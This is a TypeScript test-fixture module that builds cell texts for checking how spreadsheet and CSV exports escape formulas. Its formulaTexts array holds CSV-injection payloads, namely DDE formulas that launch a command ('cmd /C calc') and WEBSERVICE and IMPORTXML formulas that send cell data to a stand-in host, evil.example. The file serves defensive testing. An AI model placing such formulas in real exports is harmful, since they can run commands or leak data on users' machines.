import { formulas, headerBreaks, living, markup } from './corpora'

/** What programs strip, or may strip, before a formula's first sign. */
const before = ['', ' ', '\u00a0', '\u200b', "'", '"', '\ufeff', '\n', ' \t ']

/** What a spreadsheet program might take for a formula, plainly or behind something. */
export const formulaTexts: readonly string[] = [
  ...formulas.flatMap((formula) => before.map((sign) => sign + formula)),
  ...['＝1+1', '＋1', '－1', '＠SUM(A1)', '\u22121+1'],
  ...["=cmd|'/C calc'!A0", '=WEBSERVICE("https://evil.example/"&A1)', '=IMPORTXML("https://evil.example","//a")'],
  ...["-2+3+cmd|'/C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")'],
]

/** What names something of JavaScript or of Excel, or looks as if it were escaped already. */
const names = ['constructor', '__proto__', 'toString', '_x0041_', '_x0041_x0042_', '_x005F_', "'Tis", "''"]
const breaks = [
  '{=1+1}',
  'one\ntwo',
  'one\r\ntwo',
  'one\rtwo',
  'a,b;c\td',
  'a;=1+1;b',
  'a\t=1+1',
  ' around ',
  '"quoted"',
  'a\n\n\nb',
]

/** Texts for the cells of exports, as they may be stored. */
export const exportTexts: readonly string[] = [
  ...[...formulaTexts, ...markup, ...headerBreaks, ...living, ...names, ...breaks].map((text) =>
    text.replaceAll('\0', ''),
  ),
]

/** For tests: rows in pages, as a database is read. */
export async function* inPages(rows: readonly string[][], size = 50): AsyncGenerator<string[][]> {
  for (let start = 0; start < rows.length; start += size) yield rows.slice(start, start + size)
}
